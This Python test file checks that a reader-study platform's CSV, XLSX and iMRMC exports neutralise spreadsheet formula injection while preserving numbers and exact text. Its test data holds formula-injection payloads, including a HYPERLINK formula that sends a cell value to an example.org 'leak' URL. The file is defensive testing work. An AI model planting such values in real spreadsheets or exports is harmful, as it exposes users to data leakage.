"""Every CSV, XLSX and iMRMC file the platform and ``python -m stats tables`` write opens in
a spreadsheet as data: text that would run as a formula is neutralised (``stats.spreadsheet``),
numbers stay numbers, and the reproducibility bundle still gives back the exact text."""

import csv
import io
import math
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from readerstudy.demo import demo_study_create
from readerstudy.reading.models import Reading
from readerstudy.references.models import ReferenceLesion
from readerstudy.studies.models import Study
from readerstudy.studies.services import study_lock
from stats.io_excel import read_excel
from stats.study_record import read_bundle
from tests.factories import AnswerFactory
from tests.results.test_results import simulate_readers

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.django_db

#: Free-text answers: formulas, numbers written as text, and text that already starts with a quote.
TEXTS = [
    "=1+1",
    "+1",
    "-1",
    "-1.5",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    '=HYPERLINK("http://example.org/?leak="&A2,"Click")',
    "'=quoted",
]
#: Case codes (existing databases may hold any text; ids cannot hold commas or a CR in iMRMC).
CASES = ["=1+1", "+1", "-x1", "@SUM(A1)", "\tTAB", "'q"]
CONDITIONS = {"HR": "=HR", "LR": "@LR", "SR": "+SR"}
READER = "+R1"
LESION = "=L1"
QUESTION_TEXT = "-quality"
#: Text that :func:`stats.study_record.format_cell` writes for floats (numbers, never quoted).
FLOAT_TEXT = {"NaN", "Inf", "-Inf"}


@pytest.fixture
def study(settings) -> Study:
    """The demo study, read by its readers, then given hostile labels, codes and answers."""
    settings.READERSTUDY_DEMO_ACCOUNTS = True
    study = demo_study_create(n_cases=8, slices=16)
    simulate_readers(study)
    study.name = "=HYPERLINK(1)"
    study.save()
    for case, code in zip(study.cases.order_by("code"), CASES, strict=False):
        case.code = code
        case.save()
    for condition in study.conditions.all():
        condition.label = CONDITIONS[condition.label]
        condition.save()
    study.participations.filter(code="R1").update(code=READER)
    lesion = ReferenceLesion.objects.filter(reference__reference_set__study=study).order_by("pk").first()
    lesion.label = LESION
    lesion.save()
    study.questions.filter(key="overall_quality").update(text=QUESTION_TEXT)
    comment = study.questions.get(key="comment")
    readings = Reading.objects.filter(session__participation__study=study).order_by("pk")
    for reading, text in zip(readings, TEXTS, strict=False):
        AnswerFactory(reading=reading, question=comment, value=None, text=text)
    assert study_lock(study=study, actor=study.coordinators.get()) == 0
    return study


def _get(client, name: str, *args: str) -> bytes:
    response = client.get(reverse(f"readerstudy:{name}", args=args))
    assert response.status_code == 200, response.content[:300]
    return response.content


def _files(client, study: Study, tmp_path: Path) -> tuple[dict[str, str], dict[str, bytes], Path]:
    """Every CSV-like file (name -> text) and XLSX file (name -> bytes) and the bundle's path."""
    slug = study.slug
    text = {
        "answers.csv": _get(client, "study_results_csv", slug).decode(),
        "readings.csv": _get(client, "study_readings_csv", slug).decode(),
        "roc.imrmc": _get(client, "study_export", slug, "roc.imrmc").decode(),
    }
    xlsx = {kind: _get(client, "study_export", slug, kind) for kind in ("tables.xlsx", "rjafroc.xlsx")}
    bundle = tmp_path / "bundle.zip"
    bundle.write_bytes(_get(client, "study_export", slug, "bundle.zip"))
    for archive in (io.BytesIO(_get(client, "study_export", slug, "long.zip")), bundle):
        with zipfile.ZipFile(archive) as files:
            text |= {name: files.read(name).decode() for name in files.namelist() if name.endswith(".csv")}
    for name in [n.removeprefix("tables/").removesuffix(".csv") for n in text if n.startswith("tables/")]:
        text[f"download {name}.csv"] = _get(client, "study_analysis_table", slug, name).decode()
    out, workbook = tmp_path / "again", tmp_path / "again.xlsx"
    command = ["tables", str(bundle), "--out", str(out), "--xlsx", str(workbook), "--check"]
    done = subprocess.run(
        [sys.executable, "-m", "stats", *command],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert done.returncode == 0 and "identical" in done.stdout, done.stdout + done.stderr
    text |= {f"cli {p.name}": p.read_bytes().decode() for p in out.glob("*.csv")}
    xlsx["cli again.xlsx"] = workbook.read_bytes()
    return text, xlsx, bundle


def _fields(name: str, text: str) -> list[list[str]]:
    if name.endswith(".imrmc"):  # a free-text first line, then comma-separated lines
        first, rest = text.split("\n", 1)
        return [[first], *(line.split(",") for line in rest.splitlines())]
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(field: str) -> bool:
    try:
        return math.isfinite(float(field))
    except ValueError:
        return False


def _runs(field: str) -> bool:
    """Whether a spreadsheet would run this text as a formula (OWASP's first characters)."""
    return field.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(field)


def test_every_export_is_safe_to_open_and_keeps_numbers_and_text(client, study, tmp_path):
    client.login(username=study.statisticians.get().username, password="demo")
    text, xlsx, bundle = _files(client, study, tmp_path)
    assert len([n for n in text if n.startswith("download ")]) >= 10

    cells = {name: [f for row in _fields(name, body) for f in row] for name, body in text.items()}
    for name, fields in cells.items():
        live = [f for f in fields if _runs(f) and f not in FLOAT_TEXT]
        assert not live, f"{name}: {live[:5]}"
    quoted = {"'" + t for t in TEXTS if _runs(t)} | {"''=quoted"}
    assert quoted <= set(cells["answers.csv"]) and quoted <= set(cells["long.csv"])
    assert {"+1", "-1", "-1.5"} <= set(cells["answers.csv"])  # numbers written as text stay numbers
    for name in ("answers.csv", "readings.csv", "record/cases.csv", "roc.imrmc"):
        assert {"'=1+1", "'@SUM(A1)", "'\tTAB", "+1"} <= set(cells[name]), name
    for name in ("answers.csv", "readings.csv", "download jafroc_fom.csv", "cli jafroc_fom.csv"):
        assert {"'=HR", "'@LR", "'+R1"} <= set(cells[name]), name
    assert "'=L1" in cells["long.csv"] and "'-quality" in cells["codebook.csv"]
    assert cells["roc.imrmc"][0].startswith("'=HYPERLINK(1)") and "''q" in cells["record/cases.csv"]

    # Numbers stay unquoted and parse as numbers, negative ones included.
    answers = list(csv.DictReader(io.StringIO(text["answers.csv"], newline="")))
    assert all(_is_number(row["value"]) for row in answers if row["value"])
    long = list(csv.DictReader(io.StringIO(text["long.csv"], newline="")))
    x_mm = [float(row["x_mm"]) for row in long if row["x_mm"]]
    assert x_mm and min(x_mm) < 0
    fom = list(csv.DictReader(io.StringIO(text["download jafroc_fom.csv"], newline="")))
    assert all(0 <= float(row["'=HR"]) <= 1 for row in fom)

    # XLSX: no data cell is a formula; such text keeps its value with Excel's quote prefix.
    for name, body in xlsx.items():
        book = openpyxl.load_workbook(io.BytesIO(body))
        all_cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type in ("s", "n") for c in all_cells), name
        text_cells = [c for c in all_cells if c.data_type == "s"]
        assert all(c.quotePrefix == _runs(c.value) for c in text_cells), name
        assert any(c.quotePrefix for c in text_cells) and any(c.data_type == "n" for c in all_cells), name
    tables = openpyxl.load_workbook(io.BytesIO(xlsx["tables.xlsx"]))["jafroc_fom"]
    header = next(row for row in tables.iter_rows(values_only=True) if row and row[0] == "reader")
    assert {"=HR", "@LR"} <= set(header)
    rjafroc = tmp_path / "rjafroc.xlsx"
    rjafroc.write_bytes(xlsx["rjafroc.xlsx"])
    assert set(read_excel(rjafroc).modality_ids) == set(CONDITIONS.values())  # exact ids, numeric ratings

    # The bundle gives back exactly the text that was stored.
    record = read_bundle(bundle)
    assert set(TEXTS) <= {row["text"] for row in record.answers}
    assert set(CASES) <= {row["case"] for row in record.cases}
    assert READER in record.reader_ids and set(CONDITIONS.values()) == set(record.condition_ids)
